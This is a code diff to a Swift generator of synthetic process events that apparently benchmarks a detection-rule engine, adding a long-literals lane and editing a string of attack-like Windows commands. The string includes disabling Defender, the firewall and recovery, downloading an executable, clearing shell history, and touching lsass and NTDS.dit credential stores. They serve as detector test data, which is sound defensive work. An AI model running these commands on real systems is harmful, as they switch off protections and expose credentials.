@@ -33,8 +33,10 @@ enum GeneratedEvents: String, CaseIterable {
   case newHits = "worst_20_new_hits"
   /// Values of one length that differ in the middle only: what a careless hash takes for one.
   case alike = "worst_alike"
-  /// Values made of the literals that most rules know.
+  /// Command lines of about the ordinary lengths, made of the literals that most rules know and nothing else.
   case literals = "worst_literals"
+  /// The same of 2 KiB: two worst cases at once.
+  case longLiterals = "worst_long_literals"
 
   private static let processes = [
     ("Windows\\\\System32\\\\svchost.exe", "svchost.exe -k netsvcs -p"),
@@ -69,14 +71,14 @@ enum GeneratedEvents: String, CaseIterable {
     + "bcdedit /set {default} recoveryenabled no; Set-MpPreference -DisableRealtimeMonitoring $true; "
     + "netsh advfirewall set allprofiles state off; Get-ADUser -Filter *; Start-BitsTransfer http://10.0.0.1/c.exe; "
     + "Disable-WindowsOptionalFeature -Online -FeatureName Windows-Defender; Remove-Item ConsoleHost_history.txt; "
-    + "cmd.exe /c echo a > \\\\\\\\.\\\\pipe\\\\b; sc config; ForEach-Object {[char]; .Replace('a','b'); Get-Process lsass; "
-    + "rundll32.exe keymgr.dll,KRShowKeyMgr; copy lsass.dmp C:\\\\Windows\\\\NTDS.dit"
+    + "cmd.exe /c echo a > \\\\\\\\.\\\\pipe\\\\b; sc config; ForEach-Object {[char]; .Replace('a','b'); "
+    + "rundll32.exe keymgr.dll,KRShowKeyMgr"
 
   /// How many events a lane has: about 60 MB in any case.
   private var count: Int {
     switch self {
     case .long: 1500
-    case .literals: 20_000
+    case .longLiterals: 20_000
     default: 100_000
     }
   }
@@ -111,8 +113,8 @@ enum GeneratedEvents: String, CaseIterable {
     case .hits: return GeneratedEvents.attack + " \(number % 8)"
     case .newHits: return GeneratedEvents.attack + " \(number)"
     case .alike: return "C:\\\\tools\\\\collector.exe " + random.hexadecimal(24) + " --output C:\\\\data"
-    case .literals:
-      return (0..<160).map { _ in GeneratedEvents.common.randomElement(using: &random)! }.joined()
+    case .literals, .longLiterals:
+      return (0..<(self == .literals ? 16 : 160)).map { _ in GeneratedEvents.common.randomElement(using: &random)! }.joined()
     }
   }
 }
